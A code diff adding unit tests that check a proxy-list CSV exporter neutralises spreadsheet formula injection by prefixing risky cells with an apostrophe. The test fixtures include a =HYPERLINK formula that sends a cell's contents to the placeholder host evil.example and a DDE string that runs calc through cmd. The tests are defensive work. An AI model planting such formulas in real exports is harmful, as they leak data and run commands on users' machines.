@@ -92,6 +92,48 @@ describe('formatProxies: byte-exact output for the seed examples', () => {
   })
 })
 
+describe('CSV: free-text cells never run as spreadsheet formulas (OWASP CSV injection)', () => {
+  const formulaNames = {
+    '2W1IlyssyF': '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    ksdfmw343: '+1+2',
+  }
+  const hostile: ExportableProxy[] = [
+    { ...A, description: '@SUM(1+1)*cmd|\' /C calc\'!A0' },
+    { ...B, description: '-2+3' },
+    { ...C, description: '\t=1+1' },
+    { ...A, id: 'cr', port: 13001, description: '\r=1+1' },
+    // Credentials that look like formulas stay exactly what the proxy needs.
+    { ...A, id: 'creds', port: 13002, auth: { login: '=login', password: '+pa=ss@-' } },
+  ]
+
+  it('puts an apostrophe before names and descriptions that start with = + - @ tab or CR', () => {
+    const text = formatProxies(hostile, { format: 'csv', address: 'ip', connectionNames: formulaNames }).text
+    const rows = text.split('\n')
+    expect(rows[1]).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",2W1IlyssyF,2CiQPfoWcJ,socks5,userpass,x1.fxdx.in,1.2.3.4,13874,username,superpassword,,\'@SUM(1+1)*cmd|\' /C calc\'!A0',
+    )
+    expect(rows[2]).toBe("'+1+2,ksdfmw343,k31kcls,http,userpass,x1.fxdx.in,1.2.3.4,13872,new_login,new_pass,,'-2+3")
+    expect(rows[3]?.endsWith(",'\t=1+1")).toBe(true)
+    expect(rows[4]?.endsWith(',"\'\r=1+1"')).toBe(true)
+    expect(rows[5]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",2W1IlyssyF,creds,socks5,userpass,x1.fxdx.in,1.2.3.4,13002,=login,+pa=ss@-,,new proxy description`)
+    // No cell a spreadsheet reads as text-to-evaluate is left: every cell starting with a formula character is a credential or host.
+    expect(text).not.toMatch(/(^|,)"?[=+@]HYPERLINK/m)
+  })
+
+  it('leaves names and descriptions that do not start with a formula character as they are', () => {
+    const text = formatProxies([{ ...A, description: 'a=b, -c' }], { format: 'csv', address: 'ip', connectionNames: { '2W1IlyssyF': 'Phone 1 (=main)' } }).text
+    expect(text.split('\n')[1]).toBe('Phone 1 (=main),2W1IlyssyF,2CiQPfoWcJ,socks5,userpass,x1.fxdx.in,1.2.3.4,13874,username,superpassword,,"a=b, -c"')
+  })
+
+  it('round trip: hosts, ports, logins and passwords read back byte-exact', () => {
+    const parsed = parseProxyLines(formatProxies(hostile, { format: 'csv', address: 'ip', connectionNames: formulaNames }).text)
+    expect(parsed.rejected).toEqual([])
+    expect(parsed.proxies.map((p) => ({ host: p.host, ip: p.ip, port: p.port, login: p.login, password: p.password }))).toEqual(
+      hostile.map((p) => ({ host: p.hostname, ip: p.ip, port: p.port, login: p.auth?.login, password: p.auth?.password })),
+    )
+  })
+})
+
 describe('formatProxies: noauth, refusals, IPv6', () => {
   it('writes a noauth access without credentials in each credential format and says so', () => {
     for (const [format, line] of [
